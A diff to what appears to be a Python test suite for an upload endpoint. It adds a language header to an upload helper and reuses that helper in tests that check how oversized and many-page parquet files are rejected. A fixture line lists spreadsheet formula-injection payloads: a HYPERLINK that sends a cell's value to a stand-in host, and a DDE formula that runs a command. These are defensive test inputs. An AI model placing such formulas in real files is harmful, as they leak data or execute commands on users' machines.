@@ -26,9 +26,13 @@ OPTIONS = json.dumps({"capacity": 5})
 FORMULA_IDS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
 
 
-def _upload(client: TestClient, content: bytes, filename: str) -> Any:
+def _upload(client: TestClient, content: bytes, filename: str, language: str | None = None) -> Any:
+    languages = {} if language is None else {"Accept-Language": language}
     return client.post(
-        UPLOAD, files={"file": (filename, content)}, data={"options": OPTIONS}, headers=AUTH
+        UPLOAD,
+        files={"file": (filename, content)},
+        data={"options": OPTIONS},
+        headers=AUTH | languages,
     )
 
 
@@ -91,12 +95,7 @@ def test_a_parquet_that_unpacks_too_large_is_told_so_not_called_a_workbook(
     build: Callable[[Path], Path],
 ) -> None:
     content = build(tmp_path / "teks.parquet").read_bytes()
-    response = client.post(
-        UPLOAD,
-        files={"file": ("teks.parquet", content)},
-        data={"options": OPTIONS},
-        headers={**AUTH, "Accept-Language": language},
-    )
+    response = _upload(client, content, "teks.parquet", language)
 
     assert response.status_code == 413
     message = _envelope(response)["message"]
@@ -115,12 +114,7 @@ def test_a_parquet_cut_into_too_many_pages_is_unreadable_with_one_advice(
     client: TestClient, tmp_path: Path, language: str, words: str, advice: str
 ) -> None:
     content = bombs.parquet_many_pages(tmp_path / "halaman.parquet").read_bytes()
-    response = client.post(
-        UPLOAD,
-        files={"file": ("halaman.parquet", content)},
-        data={"options": OPTIONS},
-        headers={**AUTH, "Accept-Language": language},
-    )
+    response = _upload(client, content, "halaman.parquet", language)
 
     assert response.status_code == 422
     body = _envelope(response)
